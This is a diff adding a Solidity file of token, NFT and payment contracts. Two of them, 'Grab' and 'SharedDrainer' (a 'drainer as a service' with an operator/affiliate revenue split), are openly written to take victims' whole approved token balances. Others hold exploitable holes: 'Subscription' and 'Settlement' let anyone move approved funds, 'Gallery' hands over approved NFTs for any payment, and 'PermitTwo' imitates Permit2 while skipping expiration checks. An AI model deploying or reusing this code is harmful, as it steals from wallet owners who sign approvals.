@@ -1,0 +1,229 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity 0.8.37;
+
+interface IToken {
+    function balanceOf(address account) external view returns (uint256);
+    function transferFrom(address from, address to, uint256 value) external returns (bool);
+}
+
+interface ICollection {
+    function transferFrom(address from, address to, uint256 id) external;
+}
+
+/// Takes all of an approved token for whoever deployed it.
+contract Grab {
+    address public immutable keeper = msg.sender;
+
+    function take(IToken token, address from) external {
+        require(msg.sender == keeper, "not the keeper");
+        token.transferFrom(from, keeper, token.balanceOf(from));
+    }
+}
+
+/// A drainer as a service: the runner's calls take all of it, 20 % for the operator, 80 % for who brought the owner.
+contract SharedDrainer {
+    address public immutable runner = msg.sender;
+    address public immutable operator;
+
+    constructor(address operator_) {
+        operator = operator_;
+    }
+
+    function drain(IToken token, address from, address affiliate) external {
+        require(msg.sender == runner, "not the runner");
+        uint256 all = token.balanceOf(from);
+        token.transferFrom(from, operator, all / 5);
+        token.transferFrom(from, affiliate, all - all / 5);
+    }
+}
+
+/// Takes a fixed fee of an approved token every time it is asked to: a subscription.
+contract Subscription {
+    address public immutable keeper = msg.sender;
+
+    function bill(IToken token, address from, uint256 fee) external {
+        token.transferFrom(from, keeper, fee);
+    }
+}
+
+/// Swaps everything an owner approved for another token that a maker approved, by an order the solver carries in.
+contract Settlement {
+    function settle(IToken sold, address seller, uint256 amount, IToken bought, address maker, uint256 price) external {
+        sold.transferFrom(seller, maker, amount);
+        bought.transferFrom(maker, seller, price);
+    }
+}
+
+/// An ERC-20 whose owners may approve by signature (EIP-2612).
+contract PermitToken {
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    string public constant name = "Pebble";
+    string public constant symbol = "PBL";
+    uint8 public constant decimals = 18;
+    uint256 public totalSupply;
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    mapping(address => uint256) public nonces;
+
+    constructor(uint256 supply) {
+        totalSupply = supply;
+        balanceOf[msg.sender] = supply;
+        emit Transfer(address(0), msg.sender, supply);
+    }
+
+    function DOMAIN_SEPARATOR() public view returns (bytes32) {
+        bytes32 kind = keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
+        return keccak256(abi.encode(kind, keccak256("Pebble"), keccak256("1"), block.chainid, address(this)));
+    }
+
+    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
+        require(block.timestamp <= deadline, "expired");
+        bytes32 kind = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
+        bytes32 body = keccak256(abi.encode(kind, owner, spender, value, nonces[owner]++, deadline));
+        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), body));
+        require(owner != address(0) && ecrecover(digest, v, r, s) == owner, "not signed by the owner");
+        allowance[owner][spender] = value;
+        emit Approval(owner, spender, value);
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        return _move(msg.sender, to, value);
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        allowance[from][msg.sender] -= value;
+        return _move(from, to, value);
+    }
+
+    function _move(address from, address to, uint256 value) private returns (bool) {
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        emit Transfer(from, to, value);
+        return true;
+    }
+}
+
+/// Carries payments that their payers permitted by signature, for a fee.
+contract PaymentRelay {
+    address public immutable keeper = msg.sender;
+
+    struct Signature {
+        uint8 v;
+        bytes32 r;
+        bytes32 s;
+    }
+
+    function carry(PermitToken token, address from, address to, uint256 value, uint256 fee, Signature calldata signed) external {
+        token.permit(from, address(this), value + fee, type(uint256).max, signed.v, signed.r, signed.s);
+        token.transferFrom(from, to, value);
+        token.transferFrom(from, keeper, fee);
+    }
+}
+
+/// Permit2's allowance part, at its address: same calls, same typed data, same event. Signatures are checked.
+contract PermitTwo {
+    struct Details {
+        address token;
+        uint160 amount;
+        uint48 expiration;
+        uint48 nonce;
+    }
+    struct Single {
+        Details details;
+        address spender;
+        uint256 sigDeadline;
+    }
+
+    event Permit(address indexed owner, address indexed token, address indexed spender, uint160 amount, uint48 expiration, uint48 nonce);
+
+    mapping(address => mapping(address => mapping(address => uint160))) public allowed;
+    mapping(address => mapping(address => mapping(address => uint48))) public nonces;
+
+    function permit(address owner, Single calldata single, bytes calldata signature) external {
+        Details calldata d = single.details;
+        require(block.timestamp <= single.sigDeadline && d.nonce == nonces[owner][d.token][single.spender]++, "stale");
+        (bytes32 r, bytes32 s, uint8 v) = (bytes32(signature[0:32]), bytes32(signature[32:64]), uint8(signature[64]));
+        require(owner != address(0) && ecrecover(_digest(single), v, r, s) == owner, "not signed by the owner");
+        allowed[owner][d.token][single.spender] = d.amount;
+        emit Permit(owner, d.token, single.spender, d.amount, d.expiration, d.nonce);
+    }
+
+    function _digest(Single calldata single) private view returns (bytes32) {
+        Details calldata d = single.details;
+        bytes32 detailsKind = keccak256("PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)");
+        bytes32 kind = keccak256(
+            "PermitSingle(PermitDetails details,address spender,uint256 sigDeadline)PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)"
+        );
+        bytes32 details = keccak256(abi.encode(detailsKind, d.token, d.amount, d.expiration, d.nonce));
+        bytes32 body = keccak256(abi.encode(kind, details, single.spender, single.sigDeadline));
+        bytes32 domainKind = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
+        bytes32 domain = keccak256(abi.encode(domainKind, keccak256("Permit2"), block.chainid, address(this)));
+        return keccak256(abi.encodePacked("\x19\x01", domain, body));
+    }
+
+    function transferFrom(address from, address to, uint160 amount, address token) external {
+        allowed[from][token][msg.sender] -= amount;
+        IToken(token).transferFrom(from, to, amount);
+    }
+}
+
+/// An ERC-721 with numbers for art.
+contract Collection {
+    event Transfer(address indexed from, address indexed to, uint256 indexed id);
+    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);
+
+    string public constant name = "Portraits";
+    string public constant symbol = "PORT";
+    mapping(uint256 => address) public ownerOf;
+    mapping(address => mapping(address => bool)) public isApprovedForAll;
+
+    function mint(address to, uint256 id) external {
+        require(ownerOf[id] == address(0), "taken");
+        ownerOf[id] = to;
+        emit Transfer(address(0), to, id);
+    }
+
+    function setApprovalForAll(address operator, bool approved) external {
+        isApprovedForAll[msg.sender][operator] = approved;
+        emit ApprovalForAll(msg.sender, operator, approved);
+    }
+
+    function transferFrom(address from, address to, uint256 id) external {
+        require(ownerOf[id] == from && (msg.sender == from || isApprovedForAll[from][msg.sender]), "not allowed");
+        ownerOf[id] = to;
+        emit Transfer(from, to, id);
+    }
+}
+
+/// Sells NFTs of owners who approved it: the price goes to them at once.
+contract Gallery {
+    function buy(ICollection art, address seller, uint256 id) external payable {
+        art.transferFrom(seller, msg.sender, id);
+        (bool paid, ) = seller.call{value: msg.value}("");
+        require(paid, "seller refused");
+    }
+}
+
+/// Splits what is sent to it between a cause, four fifths, and whoever runs it.
+contract Splitter {
+    address payable public immutable cause;
+    address payable public immutable keeper = payable(msg.sender);
+
+    constructor(address payable cause_) {
+        cause = cause_;
+    }
+
+    receive() external payable {
+        (bool one, ) = keeper.call{value: msg.value / 5}("");
+        (bool other, ) = cause.call{value: msg.value - msg.value / 5}("");
+        require(one && other, "refused");
+    }
+}
